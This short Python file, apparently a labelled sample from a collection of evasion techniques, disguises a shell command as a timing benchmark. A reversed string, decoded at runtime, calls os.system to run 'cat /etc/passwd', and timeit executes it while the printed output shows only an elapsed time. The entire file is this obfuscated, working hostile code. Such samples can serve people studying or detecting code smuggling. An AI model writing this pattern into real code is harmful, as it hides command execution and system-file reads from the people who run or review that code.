# corpus: timeit.timeit executes its stmt string, used here to smuggle a reverse-ordered payload
import timeit

stmt = ")'dwssap/cte/ tac'(metsys.)'so'(__tropmi__"[::-1]
elapsed = timeit.timeit(stmt=stmt, number=1)
print(f"benchmark finished in {elapsed:.3f}s")
